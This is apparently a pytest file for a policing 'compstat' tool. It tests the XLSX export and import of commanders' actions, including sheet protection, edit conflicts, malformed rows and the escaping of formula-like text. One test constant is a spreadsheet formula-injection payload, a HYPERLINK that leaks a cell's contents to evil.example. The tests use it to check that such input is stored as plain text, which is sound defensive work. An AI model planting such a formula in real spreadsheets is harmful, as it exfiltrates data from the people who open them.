"""The commanders' XLSX round-trip: protection, a deliberate conflict, malformed rows, formula-like text."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import date, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet
from sqlalchemy import Engine
from typer.testing import CliRunner

from compstat.actions import NewAction, action_history, add_action, get_action, update_action
from compstat.actions.spreadsheet import COLUMNS, export_actions, import_action_updates
from compstat.cli import app
from compstat.config import Config
from compstat.errors import SourceError
from compstat.periods import parse_period
from compstat.store import connect, transaction

RAISED_AT = datetime(2026, 3, 10, 12, 0)
EXPORTED_AT = datetime(2026, 3, 11, 8, 0)
IMPORTED_AT = datetime(2026, 3, 13, 16, 0)
FORMULA_LIKE = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1 PCSO", "-2 cars off the road",
                "@SUM(A1:A9)"]
COLUMN = {c.key: i for i, c in enumerate(COLUMNS, start=1)}


@pytest.fixture
def engine(tmp_path: Path) -> Iterator[Engine]:
    engine = connect(f"sqlite:///{tmp_path / 'store.db'}")
    yield engine
    engine.dispose()


@pytest.fixture
def exported(small_config: Config, engine: Engine, tmp_path: Path) -> tuple[Path, list[int]]:
    """Six open actions of unit A (one of B), raised at the W10 meeting and exported for W11."""
    period = parse_period("2026-W10", small_config.cadence)
    descriptions = [FORMULA_LIKE[0], "Visit repeat victims", "Close the alleyway", "Leaflet drop",
                    "Check CCTV", "Brief the night-time economy"]
    with transaction(engine) as session:
        ids = [add_action(session, small_config, period, NewAction("A", d, "Insp A", None, "burglary"), "chair",
                          at=RAISED_AT).id for d in descriptions]
        add_action(session, small_config, period, NewAction("B", "Not for A", "Insp B"), "chair", at=RAISED_AT)
        update_action(session, ids[1], "Insp A", note=FORMULA_LIKE[2], support_requested=FORMULA_LIKE[1],
                      at=RAISED_AT)
        path = tmp_path / "actions-A.xlsx"
        n = export_actions(session, small_config, "A", path, parse_period("2026-W11", small_config.cadence),
                           by="analyst", at=EXPORTED_AT)
    assert n == 6
    return path, ids


def rows_by_id(sheet: Worksheet) -> dict[int, int]:
    return {int(sheet.cell(r, COLUMN["id"]).value): r for r in range(2, sheet.max_row + 1)}


def test_export_protects_all_but_the_editable_columns(exported: tuple[Path, list[int]]) -> None:
    path, ids = exported
    book = load_workbook(path)
    assert book.sheetnames == ["Actions", "How to fill in", "_compstat"]
    assert book["_compstat"].sheet_state == "hidden"
    sheet = book["Actions"]
    assert sheet.protection.sheet
    assert [c.value for c in sheet[1]][:4] == ["Action ID", "Unit", "Measure", "Action"]
    row = rows_by_id(sheet)[ids[0]]
    for column in COLUMNS:
        assert sheet.cell(row, COLUMN[column.key]).protection.locked is not column.editable, column.key
        assert sheet.column_dimensions[sheet.cell(1, COLUMN[column.key]).column_letter].hidden is column.hidden
    assert {c.header for c in COLUMNS if c.editable} == {
        "Status ✎", "New progress note ✎", "Support requested ✎", "Reason if dropped ✎", "Done on ✎"}
    assert sheet.cell(row, COLUMN["version"]).value == 1
    assert sheet.cell(row, COLUMN["exported_at"]).value == "2026-03-11 08:00:00"
    assert sheet.cell(row, COLUMN["due"]).value == datetime(2026, 3, 17)
    assert len(rows_by_id(sheet)) == 6  # unit B's action is not in A's file


def test_formula_like_text_is_written_as_text(exported: tuple[Path, list[int]]) -> None:
    path, ids = exported
    sheet = load_workbook(path)["Actions"]
    rows = rows_by_id(sheet)
    cells = [sheet.cell(rows[ids[0]], COLUMN["action"]), sheet.cell(rows[ids[1]], COLUMN["last_note"]),
             sheet.cell(rows[ids[1]], COLUMN["support_requested"])]
    assert [c.value for c in cells] == [FORMULA_LIKE[0], FORMULA_LIKE[2], FORMULA_LIKE[1]]
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]


def test_round_trip_with_a_conflict_and_malformed_rows(small_config: Config, engine: Engine,
                                                       exported: tuple[Path, list[int]]) -> None:
    path, ids = exported
    with transaction(engine) as session:  # someone else changes action 3 after the export
        update_action(session, ids[2], "Supt HQ", "in progress", "HQ took this on", at=datetime(2026, 3, 12, 10, 0))
    book = load_workbook(path)
    sheet = book["Actions"]
    rows = rows_by_id(sheet)

    def fill(action_id: int, **values: object) -> int:
        for key, value in values.items():
            sheet.cell(rows[action_id], COLUMN[key]).value = value  # a formula string is stored as a formula
        return rows[action_id]

    done_row = fill(ids[0], status="done", note=FORMULA_LIKE[0], done_on=datetime(2026, 3, 12))
    progress_row = fill(ids[1], status="In progress", note=FORMULA_LIKE[3], support_requested=FORMULA_LIKE[2])
    conflict_row = fill(ids[2], status="done", note="finished it")
    status_row = fill(ids[3], status="finished")
    date_row = fill(ids[4], status="done", done_on="last week")
    assert sheet.cell(done_row, COLUMN["note"]).data_type == "f"
    book.save(path)

    with transaction(engine) as session:
        report = import_action_updates(session, small_config, path, "Insp A", at=IMPORTED_AT)
    assert [(r.row, r.outcome) for r in report.rows] == sorted(
        [(done_row, "applied"), (progress_row, "applied"), (conflict_row, "conflict"), (status_row, "malformed"),
         (date_row, "malformed"), (rows[ids[5]], "unchanged")])
    messages = {r.row: r.message for r in report.rows}
    assert messages[conflict_row] == (
        f"row {conflict_row}: action {ids[2]} changed after this file was exported (status 'open' → 'in progress' "
        "by Supt HQ at 2026-03-12 10:00); not applied: re-export, or make the change with `compstat actions update`")
    assert messages[status_row] == (f"row {status_row}: status 'finished': expected one of open, in progress, "
                                    "done, dropped")
    assert messages[date_row] == f"row {date_row}: done on 'last week' is not a date (expected YYYY-MM-DD)"
    assert not report.complete

    with transaction(engine) as session:
        done, progress, untouched = (get_action(session, i) for i in (ids[0], ids[1], ids[2]))
        assert (done.status, done.closed_on, done.closing_note) == ("done", date(2026, 3, 12), FORMULA_LIKE[0])
        assert (progress.status, progress.last_note, progress.support_requested) == (
            "in progress", FORMULA_LIKE[3], FORMULA_LIKE[2])
        assert (untouched.status, untouched.last_note) == ("in progress", "HQ took this on")
        assert [get_action(session, i).status for i in ids[3:]] == ["open", "open", "open"]
        history = action_history(session, ids[1])
        assert [(u.field, u.old, u.new, u.by, u.via) for u in history[-2:]] == [
            ("status", "open", "in progress", "Insp A", "spreadsheet actions-A.xlsx"),
            ("support_requested", FORMULA_LIKE[1], FORMULA_LIKE[2], "Insp A", "spreadsheet actions-A.xlsx")]
        assert history[-1].at == IMPORTED_AT

    with transaction(engine) as session:  # importing the same file again applies nothing twice
        again = import_action_updates(session, small_config, path, "Insp A", at=IMPORTED_AT)
        assert [r.outcome for r in again.rows if r.row in (done_row, progress_row)] == ["unchanged", "unchanged"]
        assert [r.outcome for r in again.rows if r.row == conflict_row] == ["conflict"]
        again_path = path.with_name("again.xlsx")
        export_actions(session, small_config, "A", again_path, parse_period("2026-W11", small_config.cadence))
    resheet = load_workbook(again_path)["Actions"]
    note = resheet.cell(rows_by_id(resheet)[ids[1]], COLUMN["last_note"])
    assert (note.value, note.data_type) == (FORMULA_LIKE[3], "s")


@pytest.mark.parametrize("change", [{"note": "HQ phoned the council"}, {"support_offered": "a CCTV van"},
                                    {"due_date": date(2026, 3, 31)}], ids=["note", "support offered", "due date"])
def test_any_change_since_the_export_is_a_conflict(small_config: Config, engine: Engine,
                                                   exported: tuple[Path, list[int]], change: dict[str, object]) -> None:
    """The sheet's row was filled in against the action as exported: a change by someone else
    since, even to a field the sheet does not edit, makes the row a conflict (strict import),
    where `compstat actions update` would have re-applied a status change over it."""
    path, ids = exported
    with transaction(engine) as session:
        update_action(session, ids[3], "Supt HQ", at=datetime(2026, 3, 12, 10, 0), **change)  # type: ignore[arg-type]
    book = load_workbook(path)
    sheet = book["Actions"]
    row = rows_by_id(sheet)[ids[3]]
    sheet.cell(row, COLUMN["status"]).value = "done"
    book.save(path)
    with transaction(engine) as session:
        report = import_action_updates(session, small_config, path, "Insp A", at=IMPORTED_AT)
        assert [r.outcome for r in report.rows if r.row == row] == ["conflict"]
        assert get_action(session, ids[3]).status == "open"
        field = next(iter(change))
        assert f"{'note' if field == 'note' else field} " in next(r.message for r in report.rows if r.row == row)
        # the same change through `actions update`, based on the exported version, is re-applied
        assert update_action(session, ids[3], "Insp A", "done", expected_version=1).status == "done"


def test_import_refuses_files_it_cannot_read(small_config: Config, engine: Engine, tmp_path: Path,
                                             exported: tuple[Path, list[int]]) -> None:
    not_xlsx = tmp_path / "notes.xlsx"
    not_xlsx.write_text("just text", encoding="utf-8")
    with pytest.raises(SourceError, match="cannot be read as an XLSX workbook"), transaction(engine) as session:
        import_action_updates(session, small_config, not_xlsx, "x")
    path, _ = exported
    book = load_workbook(path)
    book["Actions"].cell(1, COLUMN["status"]).value = "State"
    book.save(path)
    with pytest.raises(SourceError, match="missing column\\(s\\) Status ✎"), transaction(engine) as session:
        import_action_updates(session, small_config, path, "x")


def test_cli_export_import_and_exit_codes(small_config_path: Path, tmp_path: Path) -> None:
    db = f"sqlite:///{tmp_path / 'cli.db'}"
    base = ["--config", str(small_config_path), "--db", db]
    runner = CliRunner()
    for text in ("Visit hotspots", "Check CCTV"):
        added = runner.invoke(app, ["actions", "add", *base, "--unit", "A", "--action", text, "--owner", "Insp A",
                                    "--by", "chair", "--period", "2026-W10"])
        assert added.exit_code == 0, added.output
    out = tmp_path / "a.xlsx"
    exported = runner.invoke(app, ["actions", "export", *base, "--unit", "A", "--out", str(out),
                                   "--period", "2026-W11"])
    assert exported.exit_code == 0 and f"2 open actions of A written to {out}" in exported.output
    book = load_workbook(out)
    sheet = book["Actions"]
    sheet.cell(2, COLUMN["status"]).value = "in progress"
    sheet.cell(3, COLUMN["status"]).value = "dropped"  # no reason: malformed
    book.save(out)
    imported = runner.invoke(app, ["actions", "import", *base, str(out), "--by", "Insp A"])
    assert imported.exit_code == 1
    assert "applied row 2: action 1 updated" in imported.output
    assert "malformed row 3: dropping an action needs a reason" in imported.output
    assert "1 applied, 0 unchanged, 0 conflicts, 1 malformed" in imported.output
    clean = runner.invoke(app, ["actions", "import", *base, str(out), "--by", "Insp A"])
    assert clean.exit_code == 1 and "0 applied, 1 unchanged, 0 conflicts, 1 malformed" in clean.output
    missing = runner.invoke(app, ["actions", "import", *base, str(tmp_path / "nope.xlsx"), "--by", "x"])
    assert missing.exit_code == 2 and "cannot be read as an XLSX workbook" in missing.output
    assert "Traceback" not in missing.output
    history = runner.invoke(app, ["actions", "history", *base, "1"])
    assert history.exit_code == 0 and "spreadsheet a.xlsx" in history.output
    as_csv = runner.invoke(app, ["actions", "export", *base, "--unit", "A", "--out", str(tmp_path / "S2.csv")])
    assert as_csv.exit_code == 2 and "written as .xlsx" in as_csv.output and not (tmp_path / "S2.csv").exists()
    wrong_unit = runner.invoke(app, ["actions", "export", *base, "--unit", "Q"])
    assert wrong_unit.exit_code == 2 and "unit 'Q' is not in the config" in wrong_unit.output
